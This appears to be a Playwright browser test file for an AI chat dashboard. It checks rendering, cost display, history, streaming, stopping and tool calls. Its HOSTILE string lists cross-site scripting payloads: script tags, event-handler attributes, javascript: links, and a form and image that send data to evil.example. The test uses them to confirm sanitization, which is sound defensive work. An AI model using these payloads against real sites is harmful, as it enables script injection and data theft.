"""The chat in a real browser: what comes in, what it costs, what is kept, and what hostile models get."""

import re
from typing import Any

import pytest
from playwright.sync_api import FilePayload, Page, expect

from tests.browser.checks import violations
from tests.browser.conftest import DESKTOP, PHONE, RESULT_TIMEOUT_MS, picture, say

pytestmark = [pytest.mark.browser, pytest.mark.ministack]

# The test model answers with what it was sent.
ECHO = "/dashboard/chat?model=test-chat"
HOSTILE = """Hello

# Heading

<script>window.hacked = 1</script><img src=x onerror="window.hacked = 1"><svg onload="window.hacked = 1">
<iframe srcdoc="<script>parent.hacked = 1</script>"></iframe><style>body { display: none }</style>
<form action="https://evil.example"><input name=card></form> <a href="javascript:window.hacked=1">one</a>

[two](javascript:window.hacked=1) [three](data:text/html,<script>window.hacked=1</script>) [four](vbscript:x)
[five](https://example.com "a\" onmouseover=\"window.hacked=1") ![six](https://evil.example/stolen.png?said=this)
![seven](https://x.example/"onerror="window.hacked=1)

```python" onclick="window.hacked=1
def greet():
    return "<img src=x onerror=window.hacked=1>"
```

```html
<script>window.hacked = 1</script>
```

| <b onclick=alert(1)>a</b> | b |
|---|---|
| `<u>` | **bold** |

Costs $5 and $10: $E=mc^2$ and $\\href{javascript:window.hacked=1}{x}$
"""
MAY_STAND = {
    *("P", "BR", "HR", "STRONG", "EM", "DEL", "CODE", "PRE", "BLOCKQUOTE", "A", "UL", "OL", "LI"),
    *(
        "H3",
        "H4",
        "H5",
        "H6",
        "TABLE",
        "THEAD",
        "TBODY",
        "TR",
        "TH",
        "TD",
        "SPAN",
        "DIV",
        "BUTTON",
        "svg",
        "path",
    ),
    *("math", "mrow", "mi", "mo", "mn", "msup"),
}


def ready(page: Page, path: str = ECHO) -> None:
    """Open the chat."""
    page.goto(path)
    page.locator("#chat[data-ready]").wait_for()


class TestWhatAModelWrote:
    def test_hostile_markdown_is_text(self, page: Page) -> None:
        ready(page)
        say(page, HOSTILE)
        answer = page.locator(".bubble.assistant .md")
        expect(answer.locator("h3")).to_have_text("Heading")
        expect(answer.locator(".hljs-name").first).to_be_visible()
        expect(answer.locator("math")).to_have_count(1)
        expect(answer).to_contain_text("Costs $5 and $10:")
        assert page.evaluate("window.hacked") is None
        names = answer.evaluate("(box) => [...box.querySelectorAll('*')].map((one) => one.nodeName)")
        assert set(names) <= MAY_STAND
        attributes = answer.evaluate(
            "(box) => [...box.querySelectorAll('*')].flatMap((one) => one.getAttributeNames())"
        )
        assert not [
            name for name in attributes if name.startswith("on") or name in ("style", "src", "srcdoc")
        ]
        links = answer.evaluate("(box) => [...box.querySelectorAll('a[href]')].map((one) => one.href)")
        assert all(re.match(r"https?://", link) for link in links)
        assert "https://example.com/" in links
        assert "<script>window.hacked = 1</script>" in answer.inner_text()
        assert violations(page) == []

    def test_markdown_is_shown_and_its_code_copied(self, page: Page) -> None:
        page.context.grant_permissions(["clipboard-read", "clipboard-write"])
        ready(page)
        say(page, "**bold** and\n\n```js\nconst a = 1;\n```")
        answer = page.locator(".bubble.assistant .md")
        expect(answer.locator("strong")).to_have_text("bold")
        answer.get_by_role("button", name="Copy the code").click()
        assert page.evaluate("navigator.clipboard.readText()") == "const a = 1;"


class TestAConversation:
    def test_it_streams_is_billed_and_its_key_is_nowhere_but_in_the_module(self, page: Page) -> None:
        ready(page, "/dashboard/chat?model=claude-haiku-4-5")
        say(page, "Say hello [[tokens 20]] [[think]]")
        answer = page.locator(".bubble.assistant")
        note = answer.locator("small").inner_text()
        found = re.match(r"(\d+) in · (\d+) out · \$([\d.]+)", note)
        assert found is not None, note
        # Published: $1 per 1M tokens in, $5 out
        expected = (int(found[1]) * 1 + int(found[2]) * 5) / 1_000_000
        assert float(found[3]) == pytest.approx(expected, rel=0.05)
        expect(page.locator("[data-total]")).to_contain_text(f"${found[3]}")
        reasoning = answer.locator("details.reasoning")
        expect(reasoning.locator("p")).to_be_hidden()
        reasoning.locator("summary").click()
        expect(reasoning.locator("p")).not_to_be_empty()
        assert violations(page) == []
        assert "tg_live_" not in page.content()
        assert page.evaluate("JSON.stringify([localStorage, sessionStorage])").count("tg_live_") == 0

    def test_it_is_edited_made_again_kept_and_deleted(self, page: Page) -> None:
        ready(page)
        say(page, "first words")
        page.get_by_role("button", name="Regenerate").click()
        expect(page.locator(".bubble.assistant .acts")).to_be_visible(timeout=RESULT_TIMEOUT_MS)
        expect(page.locator(".bubble.assistant .md")).to_contain_text("first words")
        page.locator(".bubble.user").hover()
        page.get_by_role("button", name="Edit and send again").click()
        page.get_by_label("Edit the message").fill("second words")
        page.locator(".bubble.user").get_by_role("button", name="Send").click()
        expect(page.locator(".bubble.assistant .md")).to_contain_text("second words")
        expect(page.locator(".turn")).to_have_count(1)

        kept = page.get_by_role("complementary", name="Conversations")
        expect(kept.locator("li").first).to_contain_text("first words")
        page.set_viewport_size(PHONE)
        ready(page)
        expect(page.locator(".turn")).to_have_count(0)
        page.get_by_role("button", name="History").click()
        assert violations(page) == []
        kept.get_by_role("button", name="first words").first.click()
        expect(kept).to_be_hidden()
        page.set_viewport_size(DESKTOP)
        expect(page.locator(".bubble.assistant .md")).to_contain_text("second words")
        page.get_by_role("button", name="Rename: first words").click()
        page.get_by_label("New title of: first words").fill("Words")
        page.keyboard.press("Enter")
        find = page.get_by_label("Find in conversations")
        find.fill("third")
        expect(page.locator("[data-history]")).to_contain_text("No conversations found.")
        # In its messages, not in its title.
        find.fill("SECOND words")
        with page.expect_download() as download:
            page.get_by_role("button", name="Export: Words").click()
        assert download.value.suggested_filename.startswith("Words.")
        text = download.value.path().read_text()
        assert text.startswith("# Words\n\n## You\n\nsecond words\n\n## Test chat\n\n")
        assert violations(page) == []
        page.get_by_role("button", name="Delete: Words").click()
        expect(page.locator("[data-history]")).to_contain_text("No conversations found.")

    def test_what_is_left_in_the_middle_is_kept_and_opens_again_with_the_page(self, page: Page) -> None:
        ready(page, "/dashboard/chat?model=gpt-5.4-mini")
        say(page, "first words")
        paid = page.locator("[data-total]").get_attribute("title")
        assert paid is not None
        page.get_by_label("Message", exact=True).fill("a long one [[tokens 400]] [[delay 100]]")
        page.keyboard.press("Enter")
        expect(page.locator(".bubble.assistant .md").last).not_to_be_empty(timeout=RESULT_TIMEOUT_MS)
        page.reload()
        expect(page.locator(".turn")).to_have_count(2)
        expect(page.locator(".bubble.assistant .problem").last).to_contain_text("You left before")
        page.locator(".bubble.user").first.hover()
        page.get_by_role("button", name="Edit and send again").first.click()
        page.get_by_label("Edit the message").fill("a long one again [[tokens 400]] [[delay 100]]")
        page.locator(".bubble.user").first.get_by_role("button", name="Send").click()
        expect(page.locator("[data-total]")).to_have_attribute("title", paid)  # the answer that went was paid
        expect(page.locator(".bubble.assistant .md")).not_to_be_empty(timeout=RESULT_TIMEOUT_MS)
        page.get_by_role("button", name="New").click()
        expect(page.locator(".turn")).to_have_count(0)
        expect(page.locator("[data-history] li")).to_have_count(1)
        page.locator("[data-history]").get_by_role("button", name="first words").first.click()
        expect(page.locator(".bubble.assistant .problem")).to_contain_text("Stopped")

    def test_a_broken_connection_is_told_in_words(self, page: Page) -> None:
        ready(page)
        page.evaluate("() => { window.fetch = async () => { throw new TypeError('Failed to fetch'); }; }")
        say(page, "Say hello")
        expect(page.locator(".bubble.assistant .problem")).to_contain_text("No connection to the service")

    def test_two_models_are_asked_at_once_with_a_picture_and_the_code_is_of_this_very_one(
        self, page: Page
    ) -> None:
        ready(page, "/dashboard/chat?model=gpt-5.4-mini")
        page.get_by_role("button", name="Compare").click()
        page.get_by_role("button", name="Second model").click()
        page.get_by_label("Search models").fill("haiku 4.5")
        page.keyboard.press("Enter")
        expect(page.get_by_role("button", name="Second model")).to_contain_text("Claude Haiku 4.5")
        notes: FilePayload = {"name": "notes.csv", "mimeType": "", "buffer": b"colour\nteal\n"}
        other: FilePayload = {"name": "notes.bin", "mimeType": "", "buffer": b"\xff\xfe\x00"}
        page.locator("[data-compose] input[type=file]").set_input_files([picture(), notes, other])
        expect(page.get_by_role("button", name="Remove boat.png")).to_be_visible()
        expect(page.get_by_role("button", name="Remove notes.csv")).to_be_visible()
        expect(page.locator("#toasts")).to_contain_text("notes.bin: only images, PDFs and text files")
        page.get_by_role("button", name="Settings").click()
        page.get_by_label("System prompt").fill("You name colours.")
        page.get_by_label("Maximum tokens").fill("200")
        page.get_by_role("button", name="Done").click()
        say(page, "What is in it?", answers=2)
        expect(page.locator(".bubble.assistant .problem:not(:empty)")).to_have_count(0)
        expect(page.locator(".bubble.user canvas")).to_be_visible()
        assert violations(page) == []
        page.get_by_role("button", name="Code").click()
        code = page.locator("#code pre").first
        for part in (
            "You name colours.",
            "What is in it?",
            "data:image/png;base64,…",
            "notes.csv",
            "max_completion_tokens",
        ):
            expect(code).to_contain_text(part)
        assert violations(page) == []

    def test_an_image_is_shown_and_sent_back_to_be_edited(self, page: Page) -> None:
        page.goto("/dashboard/chat?model=gemini-3.1-flash-lite-image")
        bodies: list[Any] = []
        page.on(
            "request",
            lambda sent: bodies.append(sent.post_data_json) if "completions" in sent.url else None,
        )
        for number, said in enumerate(("Draw a fox", "In blue"), start=1):
            say(page, said)
            images = page.locator(".bubble.assistant .drawn img")
            expect(images).to_have_count(number)
            expect(images.last).to_have_js_property("naturalWidth", 1_024)
            expect(page.locator(".bubble.assistant small").last).to_contain_text("$0.03")
        sent = bodies[-1]["messages"][1]["images"][0]["image_url"]["url"]
        assert sent == images.first.get_attribute("src")

    def test_it_is_stopped_and_what_goes_wrong_is_said(self, page: Page) -> None:
        ready(page, "/dashboard/chat?model=gpt-5.4-mini")
        page.get_by_label("Message", exact=True).fill("a long one [[tokens 400]] [[delay 100]]")
        page.keyboard.press("Enter")
        expect(page.locator(".bubble.assistant .md")).not_to_be_empty(timeout=RESULT_TIMEOUT_MS)
        # Sooner it is the second half of a double click.
        page.wait_for_timeout(600)
        page.get_by_role("button", name="Stop").click()
        expect(page.locator(".bubble.assistant .problem")).to_contain_text("Stopped")
        # The real charge, of less than the 400 tokens: $4.50 per 1M, and the input.
        expect(page.locator(".bubble.assistant .problem")).to_have_text(
            re.compile(r"You pay for what was generated: \$0\.00(0\d+|1[0-7]\d*)$"), timeout=RESULT_TIMEOUT_MS
        )
        expect(page.locator("[data-total]")).not_to_have_text("This conversation: $0.00")
        page.goto("/dashboard/activity")
        requests = page.get_by_role("region", name="Requests")
        expect(requests.locator("tbody tr").first).to_contain_text("Stopped")
        ready(page, "/dashboard/chat?model=gpt-5.4-mini")
        say(page, "Say hello [[error-in-stream]]")
        expect(page.locator(".bubble.assistant.bad .problem")).not_to_be_empty()


class TestTools:
    def test_a_call_is_shown_and_a_wrong_definition_is_told_before_it_is_sent(self, page: Page) -> None:
        page.goto("/dashboard/chat?model=gpt-5.4-mini")
        page.get_by_role("button", name="Settings", exact=True).click()
        tools = page.get_by_label("Tools (JSON)")
        tools.fill('[{"type": "function"}]')
        page.get_by_role("button", name="Done").click()
        expect(page.get_by_text("This is not a JSON list of functions")).to_be_visible()
        assert violations(page) == []
        schema = '{"type": "object", "properties": {"city": {"type": "string"}}, "required": ["city"]}'
        tools.fill(f'[{{"type": "function", "function": {{"name": "get_weather", "parameters": {schema}}}}}]')
        page.get_by_role("button", name="Done").click()
        say(page, "get_weather(Paris)")
        call = page.locator(".call")
        expect(call).to_contain_text("Calls get_weather")
        expect(call).to_contain_text('"city"')
        # The next message is answered, although nobody ran the function.
        page.get_by_role("button", name="Settings", exact=True).click()
        tools.fill("")
        page.get_by_role("button", name="Done").click()
        say(page, "Thanks")
        expect(page.locator(".bubble.assistant .md").last).not_to_be_empty()
        expect(page.locator(".bubble.bad")).to_have_count(0)
